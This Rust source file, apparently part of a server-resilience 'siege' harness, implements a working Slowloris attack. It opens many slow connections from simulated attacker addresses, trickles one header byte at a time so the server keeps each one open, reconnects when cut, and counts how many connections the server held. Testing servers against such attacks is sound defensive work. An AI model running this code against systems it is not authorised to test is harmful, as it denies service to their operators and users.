//! Slowloris: many connections that start a request and never finish its headers,
//! trickling one byte every few seconds so that a server without a header-read
//! timeout keeps each one (and its memory and file descriptor) forever.

use std::future::Future;
use std::pin::Pin;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::Instant;

use super::http::connect;
use super::target::{attacker_source, Target, SLOWLORIS_REGION};

/// Connections open over this long at the start rather than all in one burst.
const RAMP_MS: u64 = 2_000;
/// Deadline for one connect.
const CONNECT_TIMEOUT_MS: u64 = 5_000;
/// Pause before reopening a connection the server cut or refused.
const RECONNECT_PAUSE_MS: u64 = 500;
/// Times one slot reopens after a cut before it gives up.
const RECONNECTS_PER_SLOT_MAX: u32 = 50;
/// The header that is never finished; one byte of it goes out per trickle.
const TRICKLE: &[u8] = b"X-Siege-Hold: 1\r\n";

#[derive(Default)]
pub struct Stats {
    pub attempted: AtomicU64,
    pub connect_failed: AtomicU64,
    /// The server closed, reset or answered (e.g. 408) before the end.
    pub cut_by_server: AtomicU64,
    /// Still open, headers unfinished, when the siege ended: the server kept them.
    pub held_to_end: AtomicU64,
    /// Open right now.
    pub open: AtomicU64,
    pub open_max: AtomicU64,
}

/// Opens `connections` slow connections and holds them until `deadline`.
pub fn spawn(
    tasks: &mut JoinSet<()>,
    target: &Target,
    connections: usize,
    deadline: Instant,
    trickle: Duration,
    stats: Arc<Stats>,
) {
    let start = Instant::now();
    for slot in 0..connections {
        let (target, stats) = (target.clone(), stats.clone());
        let opens_at =
            start + Duration::from_millis(RAMP_MS * slot as u64 / connections.max(1) as u64);
        tasks.spawn(async move {
            tokio::time::sleep_until(opens_at).await;
            let host = target.host.clone();
            hold_slot(&target, slot, deadline, &stats, |stream| {
                Box::pin(hold(stream, host.clone(), deadline, trickle))
            })
            .await;
        });
    }
}

/// One connection being held: resolves to true if it was still ours at the deadline.
pub(super) type Holding<'a> = Pin<Box<dyn Future<Output = bool> + Send + 'a>>;

/// Holds one slot until `deadline`: connects from the slot's attacker address and
/// lets `hold` keep the connection; when the server cuts it early, reconnects
/// (at most `RECONNECTS_PER_SLOT_MAX` times). `hold` returns true if the
/// connection was still ours at the deadline. Shared with the slow-bodies attack.
pub(super) async fn hold_slot(
    target: &Target,
    slot: usize,
    deadline: Instant,
    stats: &Stats,
    hold: impl for<'a> Fn(&'a mut TcpStream) -> Holding<'a>,
) {
    let source = attacker_source(target, SLOWLORIS_REGION, slot);
    let mut reconnects = 0;
    while Instant::now() < deadline && reconnects <= RECONNECTS_PER_SLOT_MAX {
        stats.attempted.fetch_add(1, Ordering::Relaxed);
        let conn = tokio::time::timeout(
            Duration::from_millis(CONNECT_TIMEOUT_MS),
            connect(target.addr, source),
        )
        .await;
        let Ok(Ok(mut conn)) = conn else {
            stats.connect_failed.fetch_add(1, Ordering::Relaxed);
            reconnects += 1;
            tokio::time::sleep(Duration::from_millis(RECONNECT_PAUSE_MS)).await;
            continue;
        };
        let open = stats.open.fetch_add(1, Ordering::Relaxed) + 1;
        stats.open_max.fetch_max(open, Ordering::Relaxed);
        let held = hold(conn.stream()).await;
        stats.open.fetch_sub(1, Ordering::Relaxed);
        if held {
            stats.held_to_end.fetch_add(1, Ordering::Relaxed);
            return;
        }
        stats.cut_by_server.fetch_add(1, Ordering::Relaxed);
        reconnects += 1;
        tokio::time::sleep(Duration::from_millis(RECONNECT_PAUSE_MS)).await;
    }
}

/// True if the connection was still ours at the deadline.
async fn hold(stream: &mut TcpStream, host: String, deadline: Instant, trickle: Duration) -> bool {
    let start = format!("GET /api/v1/timelines/public HTTP/1.1\r\nHost: {host}\r\nUser-Agent: holdfast-siege-slowloris\r\n");
    if stream.write_all(start.as_bytes()).await.is_err() {
        return false;
    }
    let mut next = 0usize;
    let mut buf = [0u8; 512];
    loop {
        let tick = (Instant::now() + trickle).min(deadline);
        tokio::select! {
            () = tokio::time::sleep_until(tick) => {
                if Instant::now() >= deadline {
                    return true;
                }
                if stream.write_all(&TRICKLE[next % TRICKLE.len()..][..1]).await.is_err() {
                    return false;
                }
                next += 1;
            }
            // Any answer (408, 400) or end of stream means the server let go of us.
            _ = stream.read(&mut buf) => return false,
        }
    }
}
